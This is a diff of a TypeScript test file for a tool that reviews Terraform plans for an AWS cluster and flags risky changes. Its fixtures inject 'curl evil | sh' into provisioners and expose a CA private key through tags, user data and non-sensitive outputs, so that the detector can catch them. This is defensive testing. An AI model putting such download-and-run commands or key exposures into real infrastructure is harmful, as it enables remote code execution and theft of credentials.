@@ -2,7 +2,7 @@ import { readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import type { ClusterSettingsInput } from "../constructs";
 import { compare, type Document } from "../review/compare";
-import { concernsOf } from "../review/concerns";
+import { CONCERNS, concernsOf } from "../review/concerns";
 import { renderPage } from "../review/page";
 import { synthesizeCluster } from "../testing/synthesize";
 import type { Block } from "../testing/terraform-json";
@@ -123,6 +123,190 @@ function without({ resource = {} }: Document): Document {
   const empty = (byName: object) => Object.fromEntries(Object.keys(byName).map((name) => [name, {}]));
   return { resource: Object.fromEntries(Object.entries(resource).map(([type, byName]) => [type, empty(byName)])) };
 }
+
+/** A change of the default cluster's JSON, by hand. */
+function changed(
+  change: (resource: Record<string, Record<string, Block>>, document: Block) => void,
+): [Document, Document] {
+  const after = JSON.parse(JSON.stringify(cluster()));
+  change(after.resource, after);
+  return [cluster(), after];
+}
+
+describe("what must not pass for harmless", () => {
+  const RULE = "control-plane-api-from-0-0-0-0-0";
+  const at = (resource: Record<string, Record<string, Block>>, address: string): Block => {
+    const [type = "", name = ""] = address.split(".");
+    return resource[type]?.[name] as Block;
+  };
+  const CA_KEY = "$" + "{tls_private_key.ca-private-key.private_key_pem}";
+  const LAST = -1;
+
+  test.each<[string, string[], (resource: Record<string, Record<string, Block>>, document: Block) => void]>([
+    [
+      "half of the world, twice",
+      ["open-world"],
+      (r) => Object.assign(at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), { cidr_ipv4: "128.0.0.0/1" }),
+    ],
+    [
+      "a rule for IPv6",
+      ["open-world", "unknown"],
+      (r) => Object.assign(r.aws_vpc_security_group_ingress_rule as object, { six: { cidr_ipv6: "::/0" } }),
+    ],
+    [
+      "an open rule for another group",
+      ["open-world"],
+      (r) => Object.assign(at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), { security_group_id: "sg-1" }),
+    ],
+    [
+      "clients that hide behind the load balancer",
+      ["open-world"],
+      (r) => Object.assign(at(r, "aws_lb_target_group.target-group"), { preserve_client_ip: "maybe" }),
+    ],
+    [
+      "a rule of another type",
+      ["unknown"],
+      (r) => Object.assign(r, { aws_security_group_rule: { all: { cidr_blocks: ["0.0.0.0/0"] } } }),
+    ],
+    [
+      "rules within the group",
+      ["unknown"],
+      (r) => Object.assign(at(r, "aws_security_group.security-group"), { ingress: [{ cidr_blocks: ["0.0.0.0/0"] }] }),
+    ],
+    ["a key in a tag", ["secret"], (r) => Object.assign(at(r, "aws_vpc.vpc").tags, { key: CA_KEY })],
+    ["a key in user data", ["secret"], (r) => Object.assign(at(r, "aws_instance.master-0"), { user_data: CA_KEY })],
+    [
+      "an output that may be seen",
+      ["secret"],
+      (_r, d) => Object.assign(d.output.ssh_private_key, { sensitive: false }),
+    ],
+    [
+      "an output with its cover off",
+      ["secret"],
+      (_r, d) => Object.assign(d.output.nodes, { value: "$" + "{nonsensitive(tls_private_key.a.private_key_pem)}" }),
+    ],
+    [
+      "a command on a machine",
+      ["commands"],
+      (r) => at(r, "null_resource.pems-worker-0").provisioner.at(LAST)["remote-exec"].inline.push("curl evil | sh"),
+    ],
+    [
+      "a command here",
+      ["commands", "unknown"],
+      (r) =>
+        Object.assign(r.null_resource as object, {
+          more: { provisioner: [{ "local-exec": { command: "curl evil | sh" } }], count: 1 },
+        }),
+    ],
+    [
+      "the authority's key for a worker, in a second copy",
+      ["copies"],
+      (r) => {
+        const copy = JSON.parse(
+          JSON.stringify(at(r, "null_resource.pems-master-0")).replaceAll(
+            "aws_instance.master-0",
+            "aws_instance.worker-0",
+          ),
+        );
+        Object.assign(r.null_resource as object, { "more-worker-0": copy });
+      },
+    ],
+    [
+      "images that count from now on",
+      ["replace-machine", "replace-certificate"],
+      (r) => at(r, "aws_instance.worker-0").lifecycle.ignore_changes.shift(),
+    ],
+    [
+      "an image that is not ignored",
+      ["replace-machine", "replace-certificate"],
+      (r) => {
+        at(r, "aws_instance.worker-0").lifecycle.ignore_changes = [];
+        at(r, "aws_instance.worker-0").ami = "ami-1";
+      },
+    ],
+    [
+      "another architecture",
+      ["replace-machine", "replace-certificate"],
+      (r) => Object.assign(at(r, "aws_instance.worker-0"), { instance_type: "t4g.small" }),
+    ],
+    [
+      "an argument that the table does not know",
+      ["unknown"],
+      (r) => Object.assign(at(r, "aws_instance.worker-0"), { tenancy: "dedicated" }),
+    ],
+    ["no machine at all", ["unknown"], (r) => Object.assign(at(r, "aws_instance.worker-0"), { count: 0 })],
+    ["another trigger", [], (r) => Object.assign(at(r, "null_resource.pems-worker-0").triggers, { more: "1" })],
+    ["locals", ["unknown"], (_r, d) => Object.assign(d, { locals: { a: 1 } })],
+    [
+      "an authority that is renewed early",
+      ["renew-earlier"],
+      (r) => Object.assign(at(r, "tls_self_signed_cert.ca-certificate"), { early_renewal_hours: 43_799 }),
+    ],
+    [
+      "subnets of the load balancer, exchanged",
+      ["replace-certificate", "replace-load-balancer"],
+      (r) => Object.assign(at(r, "aws_lb.load-balancer"), { subnets: ["subnet-1"] }),
+    ],
+    [
+      "another ssh key",
+      ["replace-ssh-key"],
+      (r) => Object.assign(at(r, "tls_private_key.ssh-key"), { rsa_bits: 4096 }),
+    ],
+    [
+      "another key of the authority",
+      ["replace-ca", "replace-certificate"],
+      (r) => Object.assign(at(r, "tls_private_key.ca-private-key"), { rsa_bits: 4096 }),
+    ],
+  ])("%s", (_what, expected, change) => {
+    const kinds = concernsOf(compare(...changed(change))).map(({ kind }) => kind);
+    expect(kinds).toEqual(expected);
+  });
+
+  test("another network is said to take the cluster with it", () => {
+    const kinds = concernsOf(
+      compare(...changed((r) => Object.assign(at(r, "aws_vpc.vpc"), { cidr_block: "10.0.0.0/16" }))),
+    ).map(({ kind }) => kind);
+    expect(kinds).toContain("replace-network");
+  });
+
+  test("a trigger that is new replaces", () => {
+    const { resources } = compare(
+      ...changed((r) => Object.assign(at(r, "null_resource.pems-worker-0").triggers, { more: "1" })),
+    );
+    expect(resources).toMatchObject([{ address: "null_resource.pems-worker-0", action: "replace" }]);
+  });
+
+  test("a command is on the page, however long what stands before it", () => {
+    const page = renderPage(
+      compare(
+        ...changed((r) =>
+          at(r, "null_resource.pems-worker-0")
+            .provisioner.at(LAST)
+            ["remote-exec"].inline.unshift("x".repeat(500), "curl evil | sudo sh"),
+        ),
+      ),
+    );
+    expect(page).toContain("curl evil \\| sudo sh");
+  });
+});
+
+test("what a moved block moves is the same under its new address", () => {
+  const [, after] = [cluster(), withRenamedLoadBalancer()];
+  const changes = compare(cluster(), {
+    ...after,
+    moved: [{ from: "aws_lb.load-balancer", to: "aws_lb.nlb" }],
+  } as Document);
+  expect(changes.resources).toMatchObject([
+    { address: "aws_lb.nlb", action: "none", movedFrom: "aws_lb.load-balancer" },
+  ]);
+  expect(concernsOf(changes)).toEqual([]);
+});
+
+test("each kind of concern is in docs/reviewing.md", () => {
+  const page = readFileSync(join(__dirname, "../docs/reviewing.md"), "utf8");
+  const rows = [...page.matchAll(/^\| `([a-z-]+)` \| (.+) \|$/gm)].map(([, kind, text]) => [kind, text]);
+  expect(rows).toEqual(Object.entries(CONCERNS));
+});
 
 test("concerns are told apart", () => {
   const kinds = (settings: ClusterSettingsInput) =>
